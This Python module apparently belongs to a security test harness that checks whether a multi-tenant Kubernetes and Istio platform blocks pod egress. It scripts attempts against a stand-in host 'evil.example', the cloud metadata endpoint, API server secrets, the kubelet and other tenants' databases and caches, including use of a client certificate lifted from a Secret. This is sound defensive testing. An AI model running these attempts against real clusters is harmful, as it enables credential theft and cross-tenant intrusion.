"""Attacks that leave a pod: hosts that nobody declared, the platform's own addresses, stores that the service has no edge to.

The network's own rules would be first here and do not run in this sandbox (they are named `network-policy`); so the pod's proxy
is, and what stands behind it is shown by letting the proxy send everything on.
"""

from base64 import b64decode
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any, Final

from components.graph.model import Data, Store
from components.graph.names import EGRESS, EGRESS_PORT, POSTGRES_PORT
from components.tenancy.stores import client_secret
from sandbox.proof.attacks import raw
from sandbox.proof.attacks.apiserver import attacker, home
from sandbox.proof.attacks.outside import answering
from sandbox.proof.attacks.raw import Handshake, Shown
from sandbox.proof.attacks.registry import Attempted, Making, Planned, Sent, Switch
from sandbox.proof.attacks.stores import Credential, StoresRefusedError, connect, store_of
from sandbox.proof.attacks.switches import Where, changed
from sandbox.proof.refusals import by_words, stopped_by
from sandbox.proof.results import Evidence
from sandbox.proof.world import MESH_USER, Answer, Pod, ProofError, World

if TYPE_CHECKING:
    from sandbox.proof.tokens import Tokens

FAMILY: Final = "egress"
_OUTSIDE, _NOBODY = "203.0.113.7", "203.0.113.8"
"""Of a network that is nobody's (RFC 5737); somebody answers at the first while the proxy lets everything go."""
_METADATA: Final = "169.254.169.254"
_KUBELET_PORT: Final = 10250
_FLAGS: Final = ("-any-server", "-timeout=6s")
_PINGS: Final = b"PING\r\nPING\r\nQUIT\r\n"
"""Twice: `raw.send` takes the first line that comes for a status."""
_PONG: Final = "+PONG"
_UNENFORCED: Final = (
    "the second layer is network-policy: Cilium's default deny, which does not run here; a pod that would pass its proxy is "
    "refused by Gatekeeper (admission-proxy-user)"
)


def _pod(world: World) -> Pod:
    return world.pod(world.home_region, attacker(world))


def _service(world: World, namespace: str, name: str) -> str:
    found = home(world).get("v1", "Service", namespace, name)
    return str(found["spec"]["clusterIP"]) if found else ""


def _node(world: World) -> str:
    found = home(world).get("v1", "Pod", attacker(world).tenant, _pod(world).name)
    return str(found["status"]["hostIP"]) if found else ""


def _seen(world: World, pod: Pod, answer: Answer) -> Attempted:
    """Who ended it: who answered with a refusal, or the pod's own proxy; nobody when nobody was there."""
    if answer.status:
        source = Evidence(source=f"answer to {pod}", words=str(answer))
        return Attempted(stopped=not answer.is_allowed, by=by_words(answer.body), evidence=source)
    by, evidence = stopped_by(world, pod, answer)
    return Attempted(stopped=bool(by), by=by, evidence=evidence, failed=not by)


def _called(where: Callable[[World], str], *flags: str) -> Making:
    def make(world: World, _tokens: "Tokens") -> Attempted | Sent:
        pod = _pod(world)
        answer = world.call(pod, where(world), *_FLAGS, *flags)
        return _seen(world, pod, answer) if answer.status else Sent(answer=answer, callee=pod)

    return make


def _undeclared(world: World, _tokens: "Tokens") -> Attempted:
    """A host that another service of the tenant declared: by one's own proxy, then, where that lets it, at the egress gateway."""
    pod, host = _pod(world), world.graph.egress[0].host
    gateway = _gateway(world)
    # the name is answered for nobody who did not declare it; so an address is given, at which nobody is even with the proxy open
    seen = _seen(world, pod, world.call(pod, f"https://{host}/", *_FLAGS, f"-address={_NOBODY}:443"))
    if seen.stopped:
        return seen
    answer = _through_gateway(world, pod, host)
    by, evidence = stopped_by(world, gateway, answer, server_name=host)
    return Attempted(stopped=not answer.is_allowed, by=by, evidence=evidence)


def _database(of: str) -> Making:
    """A database that the attacker's service has no edge to: by one's own proxy, then as a client that has no certificate."""

    def make(world: World, _tokens: "Tokens") -> Attempted:
        pod = _pod(world)
        _, store = store_of(world, world.graph.workloads[of])
        address = _service(world, store.tenant, f"{store.name}-rw")
        seen = _seen(world, pod, world.call(pod, f"https://{address}:{POSTGRES_PORT}/", *_FLAGS))
        if seen.stopped:
            return seen
        try:
            found = connect(world, pod, store, Credential(username=store.name, password="guessed", lease=""))  # noqa: S106
        except StoresRefusedError as error:
            return error.seen
        return Attempted(stopped=False, by="", evidence=Evidence(source="the attacker", words=f"in as {found}"))

    return make


def _cache(of: str, shown_as: str, refusal: str) -> Making:
    """A cache that the attacker's service has no edge to: by one's own proxy, then with another's certificate or with none.

    Args:
        of: the workload whose cache it is.
        shown_as: the workload whose certificate is shown; empty for none.
        refusal: the alert that the cache has to end the handshake with.
    """

    def make(world: World, _tokens: "Tokens") -> Attempted | Sent:
        pod, store = _pod(world), _cache_edge(world, of).store
        tls = Handshake(shown=_certificate(world, shown_as) if shown_as else None)
        if shown_as:
            own = _cache_edge(world, shown_as).store
            opened = raw.send(pod, _cache_at(world, own), _PINGS, tls)
            if _PONG not in opened.body:
                msg = f"the certificate of {shown_as} does not open {own.ref} either: {opened}"
                raise ProofError(msg)
        # as the application, so that its proxy has it first
        answer = raw.send(pod, _cache_at(world, store), _PINGS, tls, user=attacker(world).settings.user_id)
        return heard(answer, refusal, pod, store.ref)

    return make


def heard(answer: Answer, refusal: str, pod: Pod, cache: str) -> Attempted | Sent:
    """What a cache made of a client: it ends the handshake with this alert, or answers; else the pod's own proxy is asked."""
    if answer.error == f"{raw.REMOTE}{refusal}":
        source = f"TLS alert of {cache}, by the front that stands for Valkey's own, to {pod}"
        return Attempted(stopped=True, by="valkey", evidence=Evidence(source=source, words=answer.error))
    if _PONG in answer.body:
        return Attempted(stopped=False, by="", evidence=Evidence(source=cache, words=answer.body.strip()))
    if raw.alerted(answer):
        return Attempted(stopped=False, by="", evidence=Evidence(source=cache, words=answer.error), failed=True)
    return Sent(answer=answer, callee=pod)


def _cache_edge(world: World, of: str) -> Data:
    return next(edge for edge in world.graph.data_of(world.graph.workloads[of]) if edge.store.kind == "cache")


def _cache_at(world: World, store: Store) -> tuple[str, int]:
    """Address and port of a cache's first instance.

    Raises:
        ProofError: it is not ready.
    """
    name = f"{store.name}-0"
    address = next((one.address for one in world.pods(world.home_region, store.tenant) if one.name == name and one.ready), "")
    if not address:
        msg = f"{store.ref} is not ready"
        raise ProofError(msg)
    return address, store.port


def _certificate(world: World, of: str) -> Shown:
    """What a workload shows to its cache, stolen.

    Raises:
        ProofError: there is none.
    """
    edge = _cache_edge(world, of)
    found = (home(world).get("v1", "Secret", edge.store.tenant, client_secret(edge)) or {}).get("data", {})
    if not {"tls.crt", "tls.key"} <= set(found):
        msg = f"{of} has no certificate for {edge.store.ref}"
        raise ProofError(msg)
    return Shown(chain=b64decode(found["tls.crt"]).decode(), key=b64decode(found["tls.key"]).decode())


def _gateway(world: World) -> Pod:
    return next(one for one in world.pods(world.home_region, EGRESS.namespace) if one.ready)


def _through_gateway(world: World, pod: Pod, host: str) -> Answer:
    """A request by the egress gateway, with the pod's own identity, past its proxy."""
    flags = ("-svid", f"-address={_gateway(world).address}:{EGRESS_PORT}", *_FLAGS)
    return world.call(pod, f"https://{host}/", *flags, user=MESH_USER)


@contextmanager
def _host_answers(world: World) -> Iterator[None]:
    """The declared host has an address for this time: without one the gateway ends a connection before it asks who it is.

    The API server's, which speaks TLS and knows nobody. It is in place when the service that declared the host is answered.
    """
    edge = world.graph.egress[0]
    cluster, pod = home(world), world.pod(world.home_region, edge.service)
    found = next(
        one
        for one in cluster.list("networking.istio.io/v1", "ServiceEntry", EGRESS.namespace)
        if edge.host in one["spec"]["hosts"]
    )
    where = Where("networking.istio.io/v1", "ServiceEntry", EGRESS.namespace, found["metadata"]["name"])
    address = _service(world, "default", "kubernetes")

    def placed(entry: dict[str, Any]) -> None:
        entry["spec"] |= {"resolution": "STATIC", "endpoints": [{"address": address}]}

    with changed(cluster, where, placed):
        world.wait(
            f"{edge.host} to be reached by {edge.service.ref}", lambda: bool(_through_gateway(world, pod, edge.host).status)
        )
        yield


@contextmanager
def _proxy_lets_everything(world: World) -> Iterator[None]:
    """The attacker's own proxy sends what it does not know on, as Istio does unless it is told otherwise."""
    one = attacker(world)
    where = Where("networking.istio.io/v1", "Sidecar", one.tenant, f"service-{one.name}")

    def opened(found: dict[str, Any]) -> None:
        found["spec"]["outboundTrafficPolicy"] = {"mode": "ALLOW_ANY"}

    pod, address = _pod(world), _service(world, "default", "kubernetes")
    with _host_answers(world), answering(pod.node, (_OUTSIDE, _METADATA)), changed(home(world), where, opened):
        world.wait("the proxy to send everything on", lambda: bool(world.call(pod, f"https://{address}/", *_FLAGS).status))
        yield
    world.wait("the proxy to send nothing unknown on", lambda: not world.call(pod, f"https://{address}/", *_FLAGS).status)


PROXY: Final = Switch(layer="egress", off=_proxy_lets_everything)


def _planned(key: str, title: str, technique: str, make: Making, *, case: str = "", single: str = "") -> Planned:
    return Planned(
        key=f"{FAMILY}-{key}",
        title=title,
        family=FAMILY,
        techniques=(technique,),
        case=case,
        expected="egress",
        make=make,
        single=single,
        switch=PROXY,
    )


_UNKNOWN: Final = _called(lambda _world: "https://evil.example/", f"-address={_OUTSIDE}:443")
_ADDRESS: Final = _called(lambda _world: f"http://{_OUTSIDE}/")
_CLOUD: Final = _called(lambda _world: f"http://{_METADATA}/latest/meta-data/")
_SERVER: Final = _called(lambda world: f"https://{_service(world, 'default', 'kubernetes')}/api/v1/secrets")
_KUBELET: Final = _called(lambda world: f"https://{_node(world)}:{_KUBELET_PORT}/pods")
ATTACKS: Final = (
    _planned("unknown-host", "a host that nobody declared", "T1041", _UNKNOWN, case="A28", single=_UNENFORCED),
    _planned("address", "an address outside, without a name", "T1041", _ADDRESS, case="A28", single=_UNENFORCED),
    _planned("metadata", "the cloud's metadata service", "T1552.005", _CLOUD, case="A29", single=_UNENFORCED),
    _planned("api-server", "the API server, from a tenant's pod", "T1613", _SERVER, case="A30"),
    _planned("kubelet", "the node's kubelet, from a tenant's pod", "T1613", _KUBELET, case="A30"),
    _planned("undeclared-host", "a host that another service declared", "T1041", _undeclared),
    _planned(
        *("own-database", "the tenant's database, by a service without an edge to it", "T1210", _database("bank-a/trans-ms"))
    ),
    _planned("foreign-database", "another tenant's database", "T1210", _database("bank-b/trans-ms"), case="A22"),
    _planned(
        *("own-cache", "the tenant's cache, by a service without an edge to it", "T1210"),
        _cache("bank-a/trans-ms", "", "certificate required"),
    ),
    _planned(
        *("foreign-cache", "another tenant's cache, with a certificate for one's own", "T1210"),
        _cache("bank-b/trans-ms", "bank-a/trans-ms", "unknown ca"),
    ),
)
SWITCHES: Final = (PROXY,)
"""For other attacks too that the same pod's proxy stops."""
